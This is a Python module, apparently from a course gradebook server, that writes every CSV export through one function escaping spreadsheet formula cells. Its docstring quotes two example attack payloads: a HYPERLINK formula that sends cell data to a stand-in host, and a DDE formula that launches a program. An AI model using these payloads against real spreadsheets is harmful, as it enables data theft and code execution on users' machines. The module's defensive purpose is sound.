r"""Every CSV file the server writes goes through this one writer, which escapes
formula cells.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and also one that starts with a tab, a
carriage return or a line feed (they skip that character first). A student
named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would hand the
instructor a link that sends the sheet's cells to another site when clicked;
``=cmd|' /C calc'!A0`` would start a program (DDE). Names, emails, sections,
titles and answer lines all come from people, so this writer escapes every
text cell. The gradebook exports, the set-password links of a roster import,
the analytics tables and any CSV added later all use it;
``tests/services/test_csvfile.py`` checks that nothing else in ``server/``
calls ``csv.writer``.

The contract:

* A row is a sequence of cells. A cell is text (``str``), a number (``int`` or
  ``float``, written as ``str()`` writes it) or ``None`` (an empty cell). Any
  other type is a TypeError: a programming error, not bad data.
* A carriage return inside a text cell is written as a line feed. The csv
  module quotes a cell that holds a line feed, but not one that holds only a
  carriage return (with ``\n`` line endings), and a spreadsheet ends the row
  at a bare carriage return: ``Sec 1\r=cmd|...`` would start a row of its own.
* Then a text cell that starts with one of ``FORMULA_STARTS`` is written with a
  leading ``'`` (OWASP's advice; spreadsheets show the cell as text). The one
  exception is a cell that is just a decimal number (``-0.5``, ``-3``): that is
  data, not a formula, and it is written as it is. Every other cell is written
  unchanged.
* The csv module's default dialect with ``\n`` line endings: a field is quoted
  only when it holds a comma, a quote or a line break. That is the format
  Canvas's gradebook import reads, byte for byte.
* ``text(rows)`` returns the whole file. ``pieces(rows)`` yields the same text
  in pieces of ``ROWS_PER_PIECE`` rows, for streamed downloads.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
CONTENT_TYPE = "text/csv; charset=utf-8"
ROWS_PER_PIECE = 500
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?\Z")

Cell = str | int | float | None


def safe_cell(value: str) -> str:
    """A text cell that a spreadsheet will not run as a formula."""
    if value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


def _cell(value: Cell) -> str | int | float:
    if isinstance(value, str):
        return safe_cell(value.replace("\r\n", "\n").replace("\r", "\n"))
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    raise TypeError(f"a CSV cell must be str, int, float or None, not {type(value).__name__}")


def pieces(rows: Iterable[Sequence[Cell]], rows_per_piece: int = ROWS_PER_PIECE
           ) -> Iterator[str]:
    """The CSV of ``rows`` as pieces of ``rows_per_piece`` rows each."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    count = 0
    for row in rows:
        writer.writerow([_cell(value) for value in row])
        count += 1
        if count % rows_per_piece == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue()


def text(rows: Iterable[Sequence[Cell]]) -> str:
    """The whole CSV of ``rows``."""
    return "".join(pieces(rows))
